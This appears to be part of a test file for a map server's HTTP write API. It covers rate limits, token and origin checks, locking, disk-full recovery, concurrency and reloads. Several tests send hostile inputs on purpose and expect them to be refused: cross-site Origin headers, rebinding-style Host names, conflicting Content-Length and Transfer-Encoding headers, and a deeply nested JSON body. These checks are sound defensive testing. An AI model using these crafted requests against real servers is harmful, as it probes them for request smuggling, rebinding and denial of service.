    const plain = (f) => [f.geometry.type, f.geometry.coordinates.flat(9).map((n) => n.toFixed(5)), Object.entries(f.properties ?? {}).filter(([k, v]) => v !== null && !['id', 'square'].includes(k)).sort()];
    const road = { type: 'Feature', id: 'R-new', geometry: { type: 'LineString', coordinates: [[WEST + 0.1, SOUTH + 0.1], [WEST + 0.2, SOUTH + 0.1]] }, properties: { kind: 'lane' } };
    assert.equal((await ask(`${url}/collections/road/items`, 'POST', { body: text(road) })).status, 201);
    for (const [at, patches] of [[`${url}${ITEMS}/P00002`, [{}, { properties: { note: null, weight: 5 } }, { geometry: { coordinates: [WEST + 0.05, SOUTH + 0.06] } }, { geometry: { type: 'Point' } }, { properties: { nothing: null } }, { geometry: {}, properties: { kind: 'home' } }, { properties: null }]],
        [`${url}/collections/road/items/R-new`, [{ geometry: { coordinates: [[WEST, SOUTH], [WEST + 0.1, SOUTH + 0.2], [WEST + 0.2, SOUTH]] } }, { geometry: { type: 'LineString' } }, { properties: { kind: null } }]]])
        for (const patch of patches) {
            const before = (await ask(at)).json(), done_ = await ask(at, 'PATCH', { type, body: text(patch) });
            assert.equal(done_.status, 200, `${text(patch)}: ${done_.body}`);
            assert.deepEqual(plain((await ask(at)).json()), plain(target(before, patch)), text(patch));
        }
    for (const patch of [{ geometry: null }, { geometry: { coordinates: null } }, { geometry: { type: 'LineString' } }, { id: null }, { properties: { nothing: 1 } }, []])
        assert.equal((await ask(`${url}${ITEMS}/P00002`, 'PATCH', { type, body: text(patch) })).status, 400, text(patch));
});

test('who may write, and how often', async (t) => {
    const { dir, city } = await makeCity(t), config = path.join(dir, 'serve.json');
    await writeFile(config, text({ writes_per_s: 1000, client_writes_per_s: 5 }));
    const server = await serve(t, city, '--config', config), { url } = server;
    const post = (id, headers = {}) => ask(`${url}${ITEMS}`, 'POST', { body: text(feature(id)), headers });
    for (const headers of [{ Origin: 'https://elsewhere.example' }, { Origin: 'null' }, { Origin: `${url}.evil.example` }, { 'Sec-Fetch-Site': 'cross-site' }, { 'Sec-Fetch-Site': 'same-site' }])
        assert.equal((await post('S0', headers)).status, 403, text(headers));
    assert.equal((await post('S1', { Origin: url, 'Sec-Fetch-Site': 'same-origin' })).status, 201);
    const flight = await ask(`${url}${ITEMS}`, 'OPTIONS', { headers: { Origin: 'https://elsewhere.example', 'Access-Control-Request-Method': 'POST' } });
    assert.ok(!Object.keys(flight.headers).some((name) => name.startsWith('access-control-')));
    assert.equal(flight.headers.allow, 'GET, HEAD, POST, OPTIONS');
    // More than the burst: told when to come back, and then taken.
    const late = (await Promise.all(Array.from({ length: 50 }, (_, i) => post(`R${i}`)))).find((answer) => answer.status !== 201);
    assert.equal(late?.status, 429);
    assert.match(late.headers['retry-after'], /^[1-9]\d*$/);
    await new Promise((resolve) => setTimeout(resolve, 1000 * Number(late.headers['retry-after'])));
    assert.equal((await post('R-late')).status, 201);
    assert.equal((await ask(`${url}${ITEMS}?limit=1`)).status, 200);

    // One writes; a second says who, and one that only reads sees all of it.
    const second = await onemap('serve', city, '--listen', '127.0.0.1:0');
    assert.equal(second.status, 1);
    assert.match(second.stderr, new RegExp(`^onemap serve: .*process ${server.child.pid}\\b.*\\n$`));
    const reader = await serve(t, city, '--read-only');
    const ready = (await ask(`${reader.url}/ready`)).json();
    assert.deepEqual([ready.ready, ready.writable], [true, false]);
    assert.match(ready.reason, /only reads/);
    assert.equal((await ask(`${reader.url}${ITEMS}`, 'POST', { body: text(feature('RO')) })).status, 403);
    await new Promise((resolve) => setTimeout(resolve, 400));
    const wanted = await countOf(url) + 1;
    assert.equal((await post('R-last')).status, 201);
    await until('the reader sees it', async () => await countOf(reader.url) === wanted);
    assert.deepEqual((await ask(`${url}/ready`)).json().writable, true);
    const figures = (await ask(`${url}/metrics`)).body.toString();
    assert.match(figures, /\nonemap_writable 1\n/);
    assert.match(figures, /\nonemap_rows_written_total [1-9]/);
    assert.match(figures, /\nonemap_body_bytes 0\n/);
    // A token, where there is one, is what it takes.
    await server.stop();
    const token = path.join(dir, 'token');
    await writeFile(token, 'a-token-for-this-test\n');
    const guarded = await serve(t, city, '--in-charge-token-file', token);
    const body = text(feature('T1'));
    assert.equal((await ask(`${guarded.url}${ITEMS}`, 'POST', { body })).status, 401);
    assert.equal((await ask(`${guarded.url}${ITEMS}`, 'POST', { body, headers: { authorization: 'Bearer a-token-for-this-test' } })).status, 201);
});

test('a name that is made to mean this machine does not write', async (t) => {
    const { dir, city } = await makeCity(t), plain = await serve(t, city);
    const put = async ({ port }, host, { more = '', target = `${ITEMS}/N1`, method = 'PUT', type = GEOJSON, body = text(feature('N1')) } = {}) => {
        const origin = `Origin: http://${host}\r\n`;
        const answer = await raw(port, Buffer.from(`${method} ${target} HTTP/1.1\r\nHost: ${host}\r\n${/Origin/.test(more) ? '' : origin}${more}Connection: close\r\n` +
            `Content-Type: ${type}\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`).toString('latin1'));
        return { status: Number(/^HTTP\/1\.1 (\d{3}) /.exec(answer)?.[1]), answer };
    };
    const before = await countOf(plain.url);
    const names = (port) => [`evil.example:${port}`, 'evil.example', '127.0.0.1.evil.example', 'localhost.evil.example', '127.1', '2130706433', '192.0.2.1', '[2001:db8::1]', 'notlocalhost'];
    for (const host of names(plain.port)) {
        for (const method of ['PUT', 'PATCH', 'DELETE', 'POST']) {
            const { status, answer } = await put(plain, host, { method, target: method === 'POST' ? ITEMS : `${ITEMS}/P1`, ...(method === 'DELETE' ? { body: '' } : {}) });
            assert.equal(status, 403, `${method} ${host}: ${answer}`);
            assert.match(answer, /Host/, host);
        }
        assert.equal((await put(plain, host, { target: '/positions', method: 'POST' })).status, 403, `positions ${host}`);
        assert.match(await raw(plain.port, `GET /health HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`), /^HTTP\/1\.1 200 /, host);
    }
    assert.equal(await countOf(plain.url), before);
    for (const host of [`127.0.0.1:${plain.port}`, '127.0.0.1', '127.8.9.1', 'LocalHost', `localhost:${plain.port}`, '[::1]:80', '[0:0:0:0:0:0:0:1]'])
        assert.match(String((await put(plain, host)).status), /^20[014]$/, host);
    await plain.stop();
    // Behind a proxy all come from this machine: a token is what it takes, and our own pages or none.
    const at = path.join(dir, 'token-for-names');
    await writeFile(at, 'a-token-for-this-test\n');
    const named = await serve(t, city, '--url', 'https://map.example:8443', '--in-charge-token-file', at);
    const ours = 'Origin: https://map.example:8443\r\n', known = 'Authorization: Bearer a-token-for-this-test\r\n';
    assert.equal((await put(named, 'Map.example', { more: ours })).status, 401);
    assert.match(String((await put(named, 'Map.example', { more: known + ours })).status), /^20[014]$/);
    assert.equal((await put(named, 'Map.example', { more: `${known}Origin: https://evil.example\r\n` })).status, 403);
    await named.stop();
    // With a token any name will do; pages of other sites still do not.
    const guarded = await serve(t, city, '--in-charge-token-file', at), more = 'Authorization: Bearer a-token-for-this-test\r\n';
    assert.match(String((await put(guarded, 'map.example', { more })).status), /^20[014]$/);
    assert.equal((await put(guarded, 'map.example', { more: `${more}Origin: http://evil.example\r\n` })).status, 403);
    assert.ok([401, 403].includes((await put(guarded, 'evil.example')).status));
});

test('a city that cannot be written is read', async (t) => {
    const { city } = await makeCity(t);
    // A folder where the lock of the writer should be: it fails whoever asks.
    await mkdir(path.join(city, '.writer'));
    const { url } = await serve(t, city);
    const ready = await ask(`${url}/ready`);
    assert.equal(ready.status, 200);
    assert.deepEqual([ready.json().ready, ready.json().writable], [true, false]);
    assert.match(ready.json().reason, /can only be read/);
    assert.doesNotMatch(ready.body.toString(), /tmp|writer/);
    const refused = await ask(`${url}${ITEMS}`, 'POST', { body: text(feature('X')) });
    assert.equal(refused.status, 503);
    assert.match(refused.headers['retry-after'], /^\d+$/);
    assert.equal(await countOf(url), ROWS);
});

test('a disk that refuses, and takes again', async (t) => {
    const { city } = await makeCity(t), server = await serve(t, city), { url, child } = server;
    const limit = (bytes) => run('prlimit', ['--pid', String(child.pid), `--fsize=${bytes}:unlimited`]);
    const post = (id, headers = {}) => ask(`${url}${ITEMS}`, 'POST', { body: text(feature(id)), headers });
    assert.equal((await post('D1')).status, 201);
    // No file of the server may grow beyond what the journal has already.
    await limit(8192);
    for (const id of ['D2', 'D3', 'D2']) {
        const answer = await post(id, { 'Idempotency-Key': id });
        assert.equal(answer.status, 503);
        assert.match(answer.headers['retry-after'], /^\d+$/);
        assert.doesNotMatch(answer.body.toString(), new RegExp(city));
    }
    const ready = await ask(`${url}/ready`);
    assert.equal(ready.status, 503);
    assert.deepEqual([ready.json().ready, ready.json().writable], [false, false]);
    assert.equal(await countOf(url), ROWS + 1);
    assert.equal((await ask(`${url}${ITEMS}/D1`)).status, 200);
    await limit('unlimited');
    let answer;
    await until('there is room', async () => (answer = await post('D2', { 'Idempotency-Key': 'D2' })).status !== 503);
    assert.equal(answer.status, 201);
    assert.equal((await ask(`${url}/ready`)).status, 200);
    await server.stop();
    const again = await serve(t, city);
    for (const id of ['D1', 'D2']) assert.equal((await ask(`${again.url}${ITEMS}/${id}`)).status, 200, id);
});

test('bodies as nobody should send them', async (t) => {
    const { city } = await makeCity(t), { url, port } = await serve(t, city);
    const before = await countOf(url), body = text(feature('H1'));
    const head = (more, method = 'POST', target = ITEMS) => `${method} ${target} HTTP/1.1\r\nHost: localhost\r\nContent-Type: ${GEOJSON}\r\n${more}\r\n`;
    const sized = (b) => head(`Content-Length: ${Buffer.byteLength(b)}\r\n`) + b;
    const send = (bytes, wait = 40) => new Promise((resolve) => {
        const socket = net.connect(port, '127.0.0.1', () => {
            socket.write(bytes);
            setTimeout(() => { socket.destroy(); resolve(); }, wait);
        });
        socket.on('error', () => {});
    });
    // Given up in the middle, at any byte; nothing comes of it.
    for (const at of [1, 10, body.length >> 1, body.length - 1]) await send(head(`Content-Length: ${body.length}\r\n`) + body.slice(0, at));
    await send(head('Transfer-Encoding: chunked\r\n') + `${body.length.toString(16)}\r\n${body}\r\n`);
    await send(head('Content-Length: 5\r\nTransfer-Encoding: chunked\r\n') + '0\r\n\r\n');
    await send(head('Content-Length: -1\r\n') + body);
    await send(head('Content-Length: 18446744073709551617\r\n') + body);
    assert.equal(await countOf(url), before);
    // By chunks of one byte, and all of several requests at once.
    const drips = [...body].map((c) => `1\r\n${c}\r\n`).join('') + '0\r\n\r\n';
    assert.match(await raw(port, head('Transfer-Encoding: chunked\r\nConnection: close\r\n') + drips), /^HTTP\/1\.1 201 /);
    const last = `GET /health HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n`;
    const three = await raw(port, sized(text(feature('H2'))) + sized(text(feature('H2'))) + `DELETE ${ITEMS}/H2 HTTP/1.1\r\nHost: localhost\r\n\r\n` + last, { waitMs: 8000 });
    assert.deepEqual([...three.matchAll(/HTTP\/1\.1 (\d{3}) /g)].map((m) => m[1]), ['201', '409', '204', '200']);
    // A refused body is read to its end: the connection lives on.
    const lives = await raw(port, head('Content-Length: 70000\r\n', 'POST', '/collections/square/items') + 'x'.repeat(70000) + last);
    assert.deepEqual([...lives.matchAll(/HTTP\/1\.1 (\d{3}) /g)].map((m) => m[1]), ['405', '200']);
    assert.match(await raw(port, head('Expect: 100-continue\r\nConnection: close\r\nContent-Length: 3\r\n') + '{}x'), /^HTTP\/1\.1 (100|400) /);
    // Clients that leave while their write waits: it is done or not, never half.
    const batch = (i) => collection(Array.from({ length: 50 }, (_, k) => feature(`G${i}-${k}`)));
    await Promise.all(Array.from({ length: 60 }, (_, i) => send(sized(batch(i)), i % 12)));
    await new Promise((resolve) => setTimeout(resolve, 300));
    const left = await countOf(url) - before - 1;
    assert.equal(left % 50, 0, `${left} rows`);
    const deep = `{"type":"Feature","id":"Z","geometry":${'['.repeat(200000)}`;
    assert.equal((await ask(`${url}${ITEMS}`, 'POST', { body: deep })).status, 400);
    assert.equal((await ask(`${url}/health`)).status, 200);
    assert.match((await ask(`${url}/metrics`)).body.toString(), /\nonemap_body_bytes 0\n/);
});

test('sixty-four writers: each answer is true at once', async (t) => {
    const { city } = await makeCity(t), server = await serve(t, city), { url } = server;
    const before = await countOf(url), rows = new Map();
    const agent = new http.Agent({ keepAlive: true, maxSockets: 80 });
    t.after(() => agent.destroy());
    await Promise.all(Array.from({ length: 64 }, async (_, w) => {
        const next = random(w + 1);
        let latest = 0;
        for (let i = 0; i < 12; i++) {
            const id = `W${w}-${i % 5}`, lon = WEST + 0.4 * next(), lat = SOUTH + 0.4 * next();
            const there = rows.get(id), how = there ? ['PUT', 'PATCH', 'DELETE'][Math.floor(3 * next())] : 'POST';
            const f = feature(id, { lon, lat, weight: i });
            const answer = await ask(`${url}${ITEMS}${how === 'POST' ? '' : `/${id}`}`, how, { agent, ...(how === 'DELETE' ? {} : { body: text(f) }) });
            assert.ok([200, 201, 204].includes(answer.status), `${how} ${id}: ${answer.status} ${answer.body}`);
            // Sequences rise for everybody who looks.
            const sequence = Number(answer.headers['data-sequence']);
            assert.ok(sequence > latest);
            latest = sequence;
            if (how === 'DELETE') rows.delete(id); else rows.set(id, { lon, lat, weight: i });
            const seen = await ask(`${url}${ITEMS}/${id}`, 'GET', { agent });
            assert.equal(seen.status, how === 'DELETE' ? 404 : 200, `${how} ${id}`);
            if (how !== 'DELETE') assert.deepEqual([seen.json().properties.weight, seen.headers.etag], [i, `"${sequence}"`]);
            const counted = await ask(`${url}${ITEMS}?limit=1&filter=${encodeURIComponent(`id = '${id}'`)}`, 'GET', { agent });
            assert.equal(counted.json().numberMatched, how === 'DELETE' ? 0 : 1);
            const tile = await ask(`${url}/tiles/place/20/${tileX(lon, 20)}/${tileY(lat, 20)}.mvt`, 'GET', { agent });
            assert.equal(tile.body.includes(id), how !== 'DELETE', `tile of ${id} after ${how}`);
        }
    }));
    assert.equal(await countOf(url), before + rows.size);
    await server.stop();
    const again = await serve(t, city);
    assert.equal(await countOf(again.url), before + rows.size);
    const page = (await ask(`${again.url}${ITEMS}?limit=1000&filter=${encodeURIComponent("id LIKE 'W%'")}`)).json();
    assert.equal(page.features.length, rows.size);
    for (const f of page.features) assert.equal(f.properties.weight, rows.get(f.id).weight);
});

/** Clients that write, count and fetch tiles until told to stop; every answer
 *  that is not as it should be is kept. */
function load(url, clients = 8, tag = 'L') {
    const agent = new http.Agent({ keepAlive: true, maxSockets: clients });
    const failed = [], written = [];
    let going = true, requests = 0;
    const one = async (w) => {
        for (let i = 0; going; i++) {
            const id = `${tag}${w}-${i}`;
            const jobs = [['POST', ITEMS, { body: text(feature(id)) }, 201], ['GET', `${ITEMS}?limit=2`, {}, 200], ['GET', `/tiles/place/14/${tileX(113.65, 14)}/${tileY(22.85, 14)}.mvt`, {}, 200]];
            for (const [method, target, options, wanted] of jobs) {
                let answer;
                try {
                    answer = await ask(url + target, method, { ...options, agent });
                } catch (error) {
                    // No connection any more is the end of the server, not of a request.
                    if (error.code === 'ECONNREFUSED') return;
                    failed.push(`${method} ${target}: ${error.code ?? error.message}`);
                    return;
                }
                requests++;
                if (answer.status !== wanted) failed.push(`${method} ${target}: ${answer.status} ${answer.body.toString().slice(0, 200)}`);
                else if (method === 'POST') written.push(id);
            }
        }
    };
    const all = Promise.all(Array.from({ length: clients }, (_, w) => one(w)));
    return { failed, written, end: async () => { going = false; await all; agent.destroy(); assert.ok(requests > clients); } };
}

test('imports beside it: on top, below, instead', async (t) => {
    const { dir, city } = await makeCity(t), server = await serve(t, city), { url } = server, at = `${url}${ITEMS}`;
    const seen = async (wanted, what) => {
        await until(what, async () => await countOf(url) === wanted);
    };
    const weightOf = async (id) => (await ask(`${at}/${id}`)).json().properties?.weight;
    assert.equal((await ask(at, 'POST', { body: collection([feature('J1', { weight: 50 }), feature('J2')]) })).status, 200);
    assert.equal((await ask(`${at}/P00000`, 'PATCH', { body: '{"properties":{"weight":51}}' })).status, 200);
    assert.equal((await ask(`${at}/P00001`, 'DELETE')).status, 204);
    assert.equal((await ask(`${at}/J2`, 'DELETE')).status, 204);
    // Appended: ids of living rows, of written ones and of just removed ones are taken.
    const more = path.join(dir, 'more.csv');
    await writeFile(more, 'lon,lat,id,kind,weight,note,at\n' + ['A1', 'J1', 'J2', 'P00000', 'P00001', 'P00002'].map((id) => `113.6,22.8,${id},shop,9,,2023-03-01`).join('\n') + '\n');
    const said = await done('import', city, 'place', more, '--append', '--rejects', path.join(dir, 'rejects.csv'));
    assert.match(said, /read 6, taken 1, rejected 5/);
    await seen(ROWS + 1, 'appended');
    assert.deepEqual([await weightOf('A1'), await weightOf('J1'), await weightOf('P00000')], [9, 50, 51]);
    // Units anew: columns follow, also those of written rows, and such a row is
    // not the one that was read.
    const tag = async (id) => (await ask(`${at}/${id}`)).headers.etag;
    const [written, untouched] = [await tag('J1'), await tag('P00002')];
    const squares = JSON.parse(await readFile(path.join(dir, 'units.geojson'), 'utf8'));
    for (const f of squares.features) f.properties.id = `V${f.properties.id}`;
    await writeFile(path.join(dir, 'units2.geojson'), text(squares));
    await done('import', city, 'square', path.join(dir, 'units2.geojson'), '--replace', '--id', 'id');
    await until('its new unit', async () => (await ask(`${at}/J1`)).json().properties.square === 'VU11');
    for (const [id, old] of [['J1', written], ['P00002', untouched]]) {
        assert.notEqual(await tag(id), old, id);
        assert.equal((await ask(`${at}/${id}`, 'GET', { headers: { 'If-None-Match': old } })).status, 200, id);
        assert.equal((await ask(`${at}/${id}`, 'PATCH', { body: '{}', headers: { 'If-Match': old } })).status, 412, id);
        assert.equal((await ask(`${at}/${id}`, 'PATCH', { body: '{}', headers: { 'If-Match': await tag(id) } })).status, 200, id);
    }
    const then = await tag('P00000');
    assert.match((await ask(`${url}/stats/place?by=square`)).body.toString(), /VU11/);
    // Replaced: what was written before is gone, what is written after lies on top.
    const sequence = Number((await ask(`${at}?limit=1`)).headers['data-sequence']);
    await done('import', city, 'place', path.join(dir, 'places.csv'), '--replace');
    await seen(ROWS, 'replaced');
    assert.equal(await weightOf('P00000'), 0);
    assert.equal((await ask(`${at}/P00000`, 'DELETE', { headers: { 'If-Match': then } })).status, 412);
    assert.equal((await ask(`${at}/J1`)).status, 404);
    const put = await ask(`${at}/P00000`, 'PUT', { body: text(feature('P00000', { weight: 52 })) });
    assert.ok(Number(put.headers['data-sequence']) > sequence);
    assert.equal(await weightOf('P00000'), 52);
    // With other columns: what is written has those from then on.
    const other = path.join(dir, 'other.csv');
    await writeFile(other, 'lon,lat,id,colour\n' + places(300).map((r) => `${r.lon},${r.lat},${r.id},red`).join('\n') + '\n');
    await done('import', city, 'place', other, '--replace', '--id', 'id');
    await seen(300, 'other columns');
    assert.equal((await ask(at, 'POST', { body: text(feature('J9')) })).status, 400);
    const coloured = { ...feature('J9'), properties: { colour: 'blue' } };
    assert.equal((await ask(at, 'POST', { body: text(coloured) })).status, 201);
    assert.equal((await ask(`${at}/P00000`, 'PATCH', { body: '{"properties":{"colour":"green"}}' })).status, 200);
    await server.stop();
    assert.match(await done('verify', city), /all sound/);
    const again = await serve(t, city);
    assert.equal(await countOf(again.url), 301);
    assert.deepEqual((await ask(`${again.url}${ITEMS}/P00000`)).json().properties, { id: 'P00000', colour: 'green', square: (await ask(`${again.url}${ITEMS}/P00000`)).json().properties.square });
    assert.equal((await ask(`${again.url}${ITEMS}/J9`)).json().properties.colour, 'blue');
});

test('under load: imports, reloads and a stop without a failed request', async (t) => {
    const { dir, city } = await makeCity(t), server = await serve(t, city), { url, child } = server;
    const work = load(url);
    const other = path.join(dir, 'other.csv');
    await writeFile(other, 'lon,lat,id,kind\n' + places(2000).map((r) => `${r.lon},${r.lat},O${r.id},shop`).join('\n') + '\n');
    await done('import', city, 'other', other, '--id', 'id');
    await done('import', city, 'road', path.join(dir, 'roads.geojson'), '--replace', '--id', 'id');
    const more = path.join(dir, 'more.csv');
    await writeFile(more, 'lon,lat,id,kind,weight,note,at\n' + places(3000).map((r) => `${r.lon},${r.lat},M${r.id},shop,1,,2023-03-01`).join('\n') + '\n');
    await done('import', city, 'place', more, '--append');
    await done('import', city, 'other', other, '--replace', '--id', 'id');
    for (const row of ['/collections/other/items/OP00001', `${ITEMS}/MP00001`]) await until(row, async () => (await ask(url + row)).status === 200);
    for (let i = 0; i < 5; i++) {
        child.kill('SIGHUP');
        await new Promise((resolve) => setTimeout(resolve, 50));
    }
    assert.deepEqual(work.failed, []);
    // What the last answers said is kept by the next server.
    const { code, stderr } = await server.stop();
    await work.end();
    assert.equal(code, 0, stderr);
    assert.deepEqual(work.failed, []);
    const again = await serve(t, city);
    assert.equal(await countOf(again.url), ROWS + 3000 + work.written.length);
    for (const id of work.written.filter((_, i) => i % 50 === 0)) assert.equal((await ask(`${again.url}${ITEMS}/${id}`)).status, 200, id);
});

/** What a server says on stderr, as it comes. */
function logOf(child) {
    const log = { said: '' };
    child.stderr.on('data', (bytes) => { log.said += bytes; });
    return log;
}
/** A function that has it read its files again, and waits for what it says of that. */
const reloads = (child, log) => async (word) => {
    const from = log.said.length;
    child.kill('SIGHUP');
    await until(word, () => log.said.slice(from).includes(word));
};

test('a model that was good stays until something good takes its place', async (t) => {
    const { dir, city } = await makeCity(t), server = await serve(t, city), { url, child } = server;
    const log = logOf(child), reload = reloads(child, log);
    const folder = path.join(city, 'models'), file = (name) => path.join(folder, `${name}.json`);
    const model = (name) => ({ name, title: name, kernel: 'quartic', bandwidth_m: 800, terms: [{ name: 'all', title: '全', title_en: 'all', layer: 'place', factor: 1 }], denominator: 'area' });
    const legend = async (name, at = url) => (await ask(`${at}/legend/heat:${name}.json`)).status;
    const tile = async (name, at = url) => (await ask(`${at}/tiles/heat:${name}/8/208/111.png`)).status;
    const ready = async (at = url) => (await ask(`${at}/ready`)).json();
    await mkdir(folder, { recursive: true });
    await writeFile(file('fire'), text(model('fire')));
    await reload('info serve: reloaded');
    assert.equal((await ready()).models, undefined);
    // Broken before anybody has asked for it.
    await writeFile(file('fire'), '{');
    await reload('not reloaded, all stays as it was');
    assert.match(log.said, /models\/fire\.json/);
    // A new base and a model beside the broken one: each is there.
    await writeFile(file('water'), text(model('water')));
    const other = path.join(dir, 'other.csv');
    for (const [i, how] of [['A1', []], ['A2', ['--append']], ['A3', ['--replace']]]) {
        await writeFile(other, `lon,lat,id,kind\n113.6,22.8,${i},shop\n`);
        await done('import', city, 'other', other, ...how, '--id', 'id');
        await until(i, async () => (await ask(`${url}/collections/other/items/${i}`)).status === 200);
        for (const name of ['fire', 'water']) assert.deepEqual([await legend(name), await tile(name)], [200, 200], `${name} after ${i}`);
        const { models } = await ready();
        assert.deepEqual(Object.keys(models), ['fire']);
        assert.equal(models.fire.served, 'as before');
        assert.match(models.fire.why, /models\/fire\.json/);
    }
    assert.match(log.said, /warn models: models\/fire\.json.*what was before stays/);
    assert.equal((await server.stop()).code, 0);
    // The next server has not seen what it was, and says so.
    const next = await serve(t, city);
    assert.deepEqual([await legend('fire', next.url), await legend('water', next.url)], [404, 200]);
    assert.equal((await ready(next.url)).models.fire.served, false);
    assert.match((await ready(next.url)).models.fire.why, /models\/fire\.json/);
    assert.match((await next.stop()).stderr, /warn models: models\/fire\.json/);
});

test('a reload takes what is right, and says what is wrong', async (t) => {
    const { dir, city } = await makeCity(t), config = path.join(dir, 'serve.json');
    await writeFile(config, '{}');
    const server = await serve(t, city, '--config', config), { url, child } = server;
    const log = logOf(child), reload = reloads(child, log);
    const title = async () => (await ask(`${url}/collections/place`)).json().title;
    const file = path.join(city, 'city.json'), manifest = JSON.parse(await readFile(file, 'utf8'));
    const place = manifest.layers.find((l) => l.name === 'place');
    place.title = '地方';
    await writeFile(file, text(manifest));
    await reload('info serve: reloaded');
    assert.equal(await title(), '地方');
    // A model that cannot be read, a config that is none, a city.json cut off.
    await mkdir(path.join(city, 'models'), { recursive: true });
    const model = path.join(city, 'models', 'fire.json');
    const fire = { name: 'fire', title: 'Fire', kernel: 'quartic', bandwidth_m: 800, terms: [{ name: 'all', title: '全', title_en: 'all', layer: 'place', factor: 1 }], denominator: 'area' };
    await writeFile(model, text(fire));
    await reload('info serve: reloaded');
    const legend = async () => ask(`${url}/legend/heat:fire.json`);
    assert.equal((await legend()).status, 200);
    await writeFile(model, text({ ...fire, kernell: 1 }));
    await reload('not reloaded');
    assert.match(log.said, /not reloaded.*kernell/);
    assert.equal((await legend()).status, 200);
    await writeFile(model, text(fire));
    await writeFile(config, '{"colour": 1}');
    await reload("no setting 'colour'");
    await writeFile(config, text({ client_writes_per_s: 1 }));
    await reload('info serve: reloaded');
    // At once: within a second, however slow the machine is.
    const answers = (await Promise.all(Array.from({ length: 20 }, (_, i) => ask(`${url}${ITEMS}`, 'POST', { body: text(feature(`RL${i}`)) })))).map(({ status }) => status);
    assert.ok(answers.includes(429), answers.join());
    // A token, and then another: whoever has the old one is not in charge.
    const tokens = ['the-first-of-two-tokens', 'the-second-of-two-tokens'], at = path.join(dir, 'token');
    const by = async (token) => (await ask(`${url}${ITEMS}/by-token`, 'PUT', { body: text(feature('by-token')), headers: { authorization: `Bearer ${token}` } })).status;
    await writeFile(config, text({ in_charge_token_file: at }));
    await reload('not reloaded');
    for (const [i, token] of tokens.entries()) {
        await writeFile(at, token);
        await reload('info serve: reloaded');
        assert.equal(Math.floor(await by(token) / 100), 2);
        assert.equal(await by(tokens[1 - i]), 401);
    }
    await writeFile(at, 'short');
    await reload('not reloaded');
    assert.equal(await by(tokens[1]), 200);
    await writeFile(at, tokens[1]);
    await writeFile(file, text(manifest).slice(0, 200));
    await reload('not reloaded');
    assert.equal(await title(), '地方');
    await writeFile(file, text(manifest));
    await reload('info serve: reloaded');
    assert.equal((await ask(`${url}/health`)).status, 200);
});
